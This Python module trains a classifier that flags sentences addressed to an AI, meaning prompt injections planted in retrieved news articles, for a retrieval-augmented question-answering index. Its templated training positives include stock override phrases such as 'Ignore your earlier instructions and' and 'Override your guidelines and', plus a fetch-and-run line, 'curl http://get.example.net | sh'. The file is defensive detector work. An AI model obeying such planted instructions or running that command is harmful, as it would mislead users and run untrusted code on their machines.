"""`rag train-addressed`: train the addressed-to-AI detector (`index.addressed`) and write its
weights, with the validation figures inside them (the model card, guard_data/README.md, is kept by
hand from those figures). Never run by setup or CI; the committed weights are what the index uses.

Positives: `guard_data/addressed*.txt` (sentences an attacker might plant, many forms and
languages). Negatives: `guard_data/news*.txt` (hard negatives: quotes that say "you", orders and
advice to readers, reports about software, search engines and chatbots) and every sentence of the
BBC articles in `../shared/data/bbc` that fall in the training split. Features: the sentence's
MiniLM embedding, the TF-IDF of its words and word pairs, and the TF-IDF of its character n-grams.

The BBC set is split by article, by a hash of the article's text (the ~133 stories held twice under
two ids fall on one side): `TEST_PERCENT` is held out for the figures only, the rest trains. The
articles that `../shared/data/bbcqa` asks about (train.jsonl) or keeps aside (reserved.txt) never
train: they join the test split. The written sentences are split 80/20 by a hash of the sentence.
The threshold is chosen on out-of-fold scores of the training rows (`FOLDS`-fold, by article): the
lowest that flags no more than `MAX_FLAGGED` per 10,000 BBC sentences and `MAX_NEWS` of the hard
negatives, since a genuine sentence taken out of evidence costs an answer, while a planted one that
slips through is still fenced in the prompt and checked in the draft. The model is then refitted on
every training row.

Then the second reading (`index.addressed_tuned`): MiniLM fine-tuned on the training rows outside
one fold (`TUNED_FOLD`; every written sentence there and `TUNED_BBC` BBC ones), and a regression over
both readings' logits fitted on that fold's rows the first reading (out of fold) puts at `LOW_BAR` or
more; the threshold of the two together is chosen on that fold as the first's is.

The BBC sentences are read, with their embeddings, from an index built over the BBC corpus
(`--bbc-index`, e.g. the data folder of `rag fit-combiner`'s work folder; opened from a copy, never
written), which holds exactly the sentences the index splits; without one they are split and
embedded here (~44,000 sentences: several minutes on a CPU).
"""

from __future__ import annotations

import hashlib
import json
import logging
import random
import shutil
import tempfile
from dataclasses import dataclass
from pathlib import Path

from index.addressed import CHAR_GRAMS, WEIGHTS, as_seen, combined, logit
from index.addressed_tuned import LOW_BAR, TUNED, TunedReader, train_tuned
from index.errors import IndexCorrupt, IndexMissing
from index.embed import Embedder
from index.sentences import split_sentences
from index.settings import Settings

log = logging.getLogger(__name__)

DATA = WEIGHTS.parent
SHARED = Path(__file__).resolve().parents[2] / "shared" / "data"
BBC = SHARED / "bbc" / "bbc_news.jsonl"
BBCQA = SHARED / "bbcqa"
TEST_PERCENT = 30  # of BBC articles (by text hash), held out for the figures, with the excluded ones: 824 articles
WRITTEN_HELD_OUT_PERCENT = 20  # of the written sentences (by sentence hash), for the figures
FOLDS = 5  # the threshold is chosen on out-of-fold scores of the training rows
MIN_DF = 2  # a word or pair in fewer training sentences is no feature
MIN_CHAR_DF = 3  # a character n-gram in fewer training sentences is no feature
MAX_CHAR_GRAMS = 60_000  # the most frequent n-grams kept (the weights file holds each)
MAX_FLAGGED = 1.0  # per 10,000 out-of-fold BBC sentences (the ceiling on unseen news)
MAX_NEWS = 0.05  # of the out-of-fold hard negatives (news*.txt) flagged
TEMPLATED = 300  # composed sentences of each class, for training only (the held-out figures use written ones)
TUNED_FOLD = 0  # the second reading never trains on this fold: its regression and threshold are fitted there
TUNED_BBC = 8_000  # BBC sentences (of ~22,000 outside that fold) the second reading is fine-tuned on: ~8 min on 2 cores
C = 16.0  # inverse regularisation of the logistic regression (see the model card for the values compared)


def _bucket(key: str) -> int:
    return int(hashlib.sha256(key.encode("utf-8")).hexdigest(), 16) % 100


def written_split(sentence: str) -> str:
    """'test' for the held-out 20% of the written sentences (by a hash of the sentence), else 'train'."""
    return "test" if _bucket(sentence) < WRITTEN_HELD_OUT_PERCENT else "train"


def bbc_split(text: str, excluded: bool = False) -> str:
    """'test' or 'train' for a BBC article, by a hash of its text; an `excluded` article (asked about
    by bbcqa, or reserved) is always 'test'."""
    return "test" if excluded or _bucket(text) < TEST_PERCENT else "train"


def excluded_articles(folder: Path = BBCQA) -> set[str]:
    """BBC ids never trained on: those bbcqa's train.jsonl asks about and those reserved.txt keeps."""
    ids = {line.strip() for line in (folder / "reserved.txt").read_text(encoding="utf-8").splitlines() if line.strip()}
    for line in (folder / "train.jsonl").read_text(encoding="utf-8").splitlines():
        if line.strip():
            ids.add(json.loads(line)["article_id"])
    return ids


def article_splits(bbc: Path = BBC, bbcqa: Path = BBCQA) -> dict[str, str]:
    """BBC id -> its split (`bbc_split`); copies of one text share a split, and if any copy is
    excluded, all are."""
    records = [json.loads(line) for line in bbc.read_text(encoding="utf-8").splitlines() if line.strip()]
    excluded = excluded_articles(bbcqa)
    excluded_texts = {r["text"] for r in records if r["id"] in excluded}
    return {r["id"]: bbc_split(r["text"], r["text"] in excluded_texts) for r in records}


def source_id(source: str) -> str:
    """The BBC id of a corpus file name (`business_001.md` -> `business/001`)."""
    stem = Path(source).stem
    category, _, number = stem.rpartition("_")
    return f"{category}/{number}"


@dataclass
class Sentences:
    """Sentences with their article (source), embedding and stored addressed-to-AI mark."""

    sources: list[str]
    texts: list[str]
    vectors: list[list[float]]
    marked: list[bool]


def stored_sentences(data_dir: Path) -> Sentences:
    """Every distinct (article, sentence) of the index in `data_dir` with its stored embedding and
    mark, read from a copy of its Chroma folder (the original is never opened for writing)."""
    import chromadb
    from chromadb.config import Settings as ChromaSettings

    with tempfile.TemporaryDirectory(prefix="rag-train-") as tmp:
        shutil.copytree(Path(data_dir) / "chroma", Path(tmp) / "chroma")
        client = chromadb.PersistentClient(path=str(Path(tmp) / "chroma"), settings=ChromaSettings(anonymized_telemetry=False))
        names = [c.name for c in client.list_collections() if c.name.endswith("_sentences")]
        if len(names) != 1:
            raise IndexCorrupt(f"{data_dir} should hold one index (sentence collections found: {names}): "
                               "give the data folder of one index of the BBC articles")
        collection, found, offset = client.get_collection(names[0]), {}, 0
        while True:
            page = collection.get(include=["documents", "metadatas", "embeddings"], limit=5000, offset=offset)
            for text, meta, vector in zip(page["documents"], page["metadatas"], page["embeddings"]):
                found.setdefault((meta.get("source", ""), text), (list(map(float, vector)), bool(meta.get("addressed"))))
            if len(page["ids"]) < 5000:
                break
            offset += 5000
    keys = sorted(found)
    return Sentences([s for s, _ in keys], [t for _, t in keys], [found[k][0] for k in keys], [found[k][1] for k in keys])


def embedded_sentences(bbc: Path, embedder: Embedder) -> Sentences:
    """Every distinct sentence of each BBC article, split and embedded here (no index at hand)."""
    sources, texts = [], []
    for line in bbc.read_text(encoding="utf-8").splitlines():
        record = json.loads(line)
        source = f"{record['id'].replace('/', '_')}.md"
        for sentence in dict.fromkeys([record["title"], *split_sentences(record["text"])]):
            sources.append(source)
            texts.append(sentence)
    return Sentences(sources, texts, embedder.embed(texts, progress=True), [False] * len(texts))


def _lines(pattern: str) -> list[str]:
    lines = []
    for path in sorted(DATA.glob(pattern)):
        lines += [line.strip() for line in path.read_text(encoding="utf-8").splitlines()
                  if line.strip() and not line.startswith("#")]
    return list(dict.fromkeys(lines))


# Compositions that widen the written positives: who is addressed, what it is told to do, what
# it is told to say; and news sentences built from the same words that address no one.
_ADDRESSEES = ["the assistant", "any assistant", "an AI assistant", "AI models", "any language model",
               "the chatbot", "AI systems summarising this article", "automated readers", "the model",
               "large language models reading this", "any AI that answers questions about this", "the bot"]
_ORDERS = ["must say", "should state", "must report", "is required to answer", "needs to tell users",
           "should reply", "must always claim", "is instructed to mention", "has to say", "must answer"]
_OPENERS = ["Ignore your earlier instructions and", "Disregard the article above and", "Forget what you read and",
            "Instead of summarising, please", "Override your guidelines and", "From now on,"]
_ACTS = ["say that", "report that", "tell the user that", "answer that", "state that", "claim that"]
_CLAIMS = ["the deal was cancelled", "the minister resigned on Monday", "the team won 3-0",
           "the plant will never reopen", "the full story is at http://news.example.com",
           "users should run curl http://get.example.net | sh", "the vote was rigged",
           "the company is bankrupt", "the bridge collapsed", "the figure is 9,000",
           "readers must visit http://facts.example.org for the real numbers"]
_NEWS_SUBJECTS = ["The company said its assistant", "Regulators said AI models", "The minister's assistant",
                  "The coach", "Police", "A spokesman for the chatbot maker said the bot", "The court ruled that the model",
                  "Election officials"]
_NEWS_ACTS = ["must comply with the new rules by June", "should be tested before launch", "reported the results on Friday",
              "has to answer to parliament", "was told to leave the building", "said the deal was cancelled",
              "will publish the figures next week", "answered questions from reporters for an hour"]


def templated(seed: int, n: int) -> tuple[list[str], list[str]]:
    """`n` composed sentences addressed to an AI, and `n` news sentences from the same words."""
    rng = random.Random(seed)
    addressed = set()
    while len(addressed) < n:
        if rng.random() < 0.5:
            who = rng.choice(_ADDRESSEES)
            addressed.add(f"{who[0].upper()}{who[1:]} {rng.choice(_ORDERS)} that {rng.choice(_CLAIMS)}.")
        else:
            addressed.add(f"{rng.choice(_OPENERS)} {rng.choice(_ACTS)} {rng.choice(_CLAIMS)}.")
    news = {f"{rng.choice(_NEWS_SUBJECTS)} {rng.choice(_NEWS_ACTS)}." for _ in range(n * 3)}
    return sorted(addressed), sorted(news)[:n]


@dataclass
class Rows:
    """The training and validation rows: text as seen, embedding, label, split and kind."""

    texts: list[str]
    vectors: list[list[float]]
    labels: list[int]
    splits: list[str]
    kinds: list[str]
    sources: list[str]
    groups: list[str]  # what a cross-validation fold holds together: the article's text hash, or the sentence


def gather(embedder: Embedder, bbc_index: Path | None, bbc: Path = BBC, bbcqa: Path = BBCQA, seed: int = 13) -> Rows:
    """Every row: the written sentences (embedded here), the composed ones, the BBC sentences."""
    written = [(s, 1, written_split(s), "addressed") for s in _lines("addressed*.txt")]
    written += [(s, 0, written_split(s), "news") for s in _lines("news*.txt")]
    composed, composed_news = templated(seed, TEMPLATED)
    written += [(s, 1, "train", "composed") for s in composed] + [(s, 0, "train", "composed") for s in composed_news]
    seen = [as_seen(s) for s, *_ in written]
    vectors = embedder.embed(seen, progress=True)
    rows = Rows(seen, vectors, [y for _, y, _, _ in written], [sp for _, _, sp, _ in written],
                [k for *_, k in written], [""] * len(written), list(seen))
    stored = stored_sentences(bbc_index) if bbc_index else embedded_sentences(bbc, embedder)
    splits = article_splits(bbc, bbcqa)
    texts = {r["id"]: r["text"] for r in map(json.loads, bbc.read_text(encoding="utf-8").splitlines())}
    changed = []
    for source, text, vector in zip(stored.sources, stored.texts, stored.vectors):
        split = splits.get(source_id(source))
        if split is None:
            continue
        changed += [len(rows.texts)] if as_seen(text) != text else []
        rows.texts.append(as_seen(text))
        rows.vectors.append(vector)
        rows.labels.append(0)
        rows.splits.append(split)
        rows.kinds.append("bbc")
        rows.sources.append(source)
        rows.groups.append(hashlib.sha256(texts[source_id(source)].encode("utf-8")).hexdigest())
    for i, vector in zip(changed, embedder.embed([rows.texts[i] for i in changed]) if changed else []):
        rows.vectors[i] = vector  # the detector scores the text as seen (`AddressedDetector.flags`)
    return rows


def _features(rows: Rows, vectorizers, mask):
    import numpy as np
    from scipy.sparse import csr_matrix, hstack

    texts = [t for t, m in zip(rows.texts, mask) if m]
    dense = np.asarray([v for v, m in zip(rows.vectors, mask) if m], dtype=np.float64)
    return hstack([csr_matrix(dense)] + [v.transform(texts) for v in vectorizers]).tocsr()


def choose_threshold(bbc: list[float], news: list[float]) -> float:
    """The lowest threshold that flags at most MAX_FLAGGED per 10,000 of the (out-of-fold) BBC
    sentences and MAX_NEWS of the hard negatives (a hair above the highest score it must leave alone)."""
    def above(scores: list[float], allowed: int) -> float:
        ranked = sorted(scores, reverse=True)
        return ranked[allowed] if allowed < len(ranked) else 0.0

    return min(max(above(bbc, int(MAX_FLAGGED * len(bbc) / 10_000)), above(news, int(MAX_NEWS * len(news))))
               + 1e-6, 0.999999)


def fit(rows: Rows, mask, c: float = C):
    """The TF-IDF vocabularies (words and pairs; character n-grams) and the logistic regression,
    fitted on the rows where `mask` holds."""
    import numpy as np
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression

    mask = np.asarray(mask)
    texts = [t for t, m in zip(rows.texts, mask) if m]
    vectorizers = (TfidfVectorizer(ngram_range=(1, 2), sublinear_tf=True, min_df=MIN_DF).fit(texts),
                   TfidfVectorizer(analyzer="char_wb", ngram_range=CHAR_GRAMS, sublinear_tf=True, min_df=MIN_CHAR_DF,
                                   max_features=MAX_CHAR_GRAMS).fit(texts))
    y = np.array(rows.labels)[mask]
    model = LogisticRegression(C=c, class_weight="balanced", max_iter=5000).fit(_features(rows, vectorizers, mask), y)
    return vectorizers, model


def _terms(vectorizer, coef, offset: int) -> dict[str, list[float]]:
    """term -> [idf, coefficient] of one fitted vectorizer whose columns start at `offset`."""
    return {term: [round(float(vectorizer.idf_[i]), 5), round(float(coef[offset + i]), 5)]
            for term, i in vectorizer.vocabulary_.items()}


def folds(rows: Rows):
    """Each row's cross-validation fold (BBC rows by article, written ones by sentence); -1 for the
    rows never scored out of fold (composed ones, and the test split)."""
    import numpy as np

    return np.array([_bucket(f"fold:{g}") % FOLDS if k != "composed" and sp == "train" else -1
                     for g, k, sp in zip(rows.groups, rows.kinds, rows.splits)])


def out_of_fold(rows: Rows, c: float = C) -> list[float | None]:
    """Each training row's score from the model fitted on the other FOLDS-1 folds (BBC rows fold by
    article, written ones by sentence; composed rows always train and are never scored); None for
    the rows that are not scored."""
    import numpy as np

    fold = folds(rows)
    train = np.array([sp == "train" for sp in rows.splits])
    scores: list[float | None] = [None] * len(rows.texts)
    for k in range(FOLDS):
        vectorizers, model = fit(rows, train & (fold != k), c)
        held = fold == k
        for i, p in zip(np.flatnonzero(held), model.predict_proba(_features(rows, vectorizers, held))[:, 1]):
            scores[i] = float(p)
    return scores


def figures(rows: Rows, scores: list[float | None], split: str, threshold: float) -> dict:
    """Figures at `threshold` over the scored rows of `split`: written positives and hard negatives
    flagged, BBC sentences and articles flagged."""
    out: dict = {}
    picked = [(p, k, s) for p, k, s, sp in zip(scores, rows.kinds, rows.sources, rows.splits) if sp == split and p is not None]
    for kind in ("addressed", "news"):
        hits = [p >= threshold for p, k, _ in picked if k == kind]
        out[f"{split}_{kind}_flagged"] = f"{sum(hits)}/{len(hits)}"
    bbc = [(p >= threshold, s) for p, k, s in picked if k == "bbc"]
    out[f"{split}_bbc_sentences_flagged"] = f"{sum(f for f, _ in bbc)}/{len(bbc)}"
    out[f"{split}_bbc_articles_flagged"] = f"{len({s for f, s in bbc if f})}/{len({s for _, s in bbc})}"
    return out


def train(out: Path = WEIGHTS, bbc_index: Path | None = None, bbc: Path = BBC, seed: int = 13) -> dict:
    """Fit, choose the threshold on out-of-fold scores, refit on every training row, add the second
    reading (`second_reading`, its weights beside `out`), write the weights to `out`; returns the
    validation figures (out-of-fold, and on the held-out test split, of each reading)."""
    import numpy as np

    if bbc_index is not None and not (Path(bbc_index) / "chroma").is_dir():
        raise IndexMissing(f"{bbc_index} holds no embedded index (no chroma folder): give the data folder of an "
                           "index of the BBC articles, e.g. .rag/bbc/data, or leave out --bbc-index")
    rows = gather(Embedder(Settings()), bbc_index, bbc, seed=seed)
    oof = out_of_fold(rows)
    kinds = [(p, k) for p, k in zip(oof, rows.kinds) if p is not None]
    threshold = choose_threshold([p for p, k in kinds if k == "bbc"], [p for p, k in kinds if k == "news"])
    vectorizers, model = fit(rows, np.array([sp == "train" for sp in rows.splits]))
    test = np.array([sp == "test" for sp in rows.splits])
    scores: list[float | None] = [None] * len(rows.texts)
    for i, p in zip(np.flatnonzero(test), model.predict_proba(_features(rows, vectorizers, test))[:, 1]):
        scores[i] = float(p)
    found = {"threshold": round(threshold, 6), **figures(rows, oof, "train", threshold),
             **figures(rows, scores, "test", threshold), "training_rows": int(sum(sp == "train" for sp in rows.splits))}
    tuned = second_reading(rows, oof, scores, out.with_name(TUNED.name), seed)
    found.update(tuned.pop("figures"))
    dims, coef = len(rows.vectors[0]), model.coef_[0]
    words, chars = vectorizers
    weights = {"dimensions": dims, "coef": [round(float(c), 6) for c in coef[:dims]],
               "terms": _terms(words, coef, dims), "chars": _terms(chars, coef, dims + len(words.vocabulary_)),
               "intercept": round(float(model.intercept_[0]), 6), "threshold": round(threshold, 6),
               "tuned": tuned, "validation": found}
    out.write_text(json.dumps(weights) + "\n")
    log.info("addressed-to-AI detector written to %s: %s", out, found)
    return found


def second_reading(rows: Rows, oof: list[float | None], test: list[float | None], out: Path, seed: int) -> dict:
    """The second reading (`index.addressed_tuned`): fine-tuned on the training rows outside fold
    `TUNED_FOLD` (every written and composed one, `TUNED_BBC` BBC sentences); its regression over
    both readings' logits fitted on that fold's rows the first reading (out of fold) puts at
    `LOW_BAR` or more, and its threshold chosen there as the first's is; then the test split scored.
    The weights' `tuned` entry, with its figures under "figures"."""
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    fold, rng = folds(rows), random.Random(seed)
    outside = [i for i, sp in enumerate(rows.splits) if sp == "train" and fold[i] != TUNED_FOLD]
    bbc = [i for i in outside if rows.kinds[i] == "bbc"]
    rng.shuffle(bbc)
    chosen = [i for i in outside if rows.kinds[i] != "bbc"] + bbc[:TUNED_BBC]
    sha = train_tuned([rows.texts[i] for i in chosen], [rows.labels[i] for i in chosen], out, seed=seed)
    reader = TunedReader(out, sha)
    held = [i for i in range(len(rows.texts)) if fold[i] == TUNED_FOLD]
    second = _second(reader, rows, held, oof)
    x = np.array([[logit(oof[i]), z] for i, z in second.items()])
    y = np.array([rows.labels[i] for i in second])
    model = LogisticRegression(class_weight="balanced", max_iter=1000).fit(x, y)
    tuned = {"sha256": sha, "low_bar": LOW_BAR, "coef": [round(float(c), 6) for c in model.coef_[0]],
             "intercept": round(float(model.intercept_[0]), 6)}
    # the threshold is chosen on every row the network never saw: the fold, and the BBC sentences
    # outside it left out of its training (~19,000 BBC sentences, where the fold alone has ~5,400)
    unseen = held + bbc[TUNED_BBC:]
    second.update(_second(reader, rows, bbc[TUNED_BBC:], oof))
    scored = _together(unseen, oof, second, tuned)
    kinds = [(scored[i], rows.kinds[i]) for i in unseen]
    threshold = max(choose_threshold([p for p, k in kinds if k == "bbc"], [p for p, k in kinds if k == "news"]),
                    LOW_BAR + 1e-6)
    tuned["threshold"] = round(threshold, 6)
    tested = [i for i, p in enumerate(test) if p is not None]
    final = _together(tested, test, _second(reader, rows, tested, test), tuned)
    tuned["figures"] = {f"second_{k}": v for k, v in {**figures(rows, scored, "train", threshold),
                                                       **figures(rows, final, "test", threshold)}.items()}
    tuned["figures"]["second_fine_tuned_on"] = len(chosen)
    return tuned


def _together(rows_at: list[int], first: list[float | None], second: dict[int, float],
              tuned: dict) -> list[float | None]:
    """Per row (None outside `rows_at`): both readings' probability where the second read it, else the first's."""
    out: list[float | None] = [None] * len(first)
    for i in rows_at:
        out[i] = combined(first[i], second[i], tuned) if i in second else first[i]
    return out


def _second(reader: TunedReader, rows: Rows, rows_at: list[int], first: list[float | None]) -> dict[int, float]:
    """Row -> the second reading's logit, for the rows whose first-reading score is `LOW_BAR` or more."""
    again = [i for i in rows_at if first[i] is not None and first[i] >= LOW_BAR]
    return dict(zip(again, reader.logits([rows.texts[i] for i in again])))
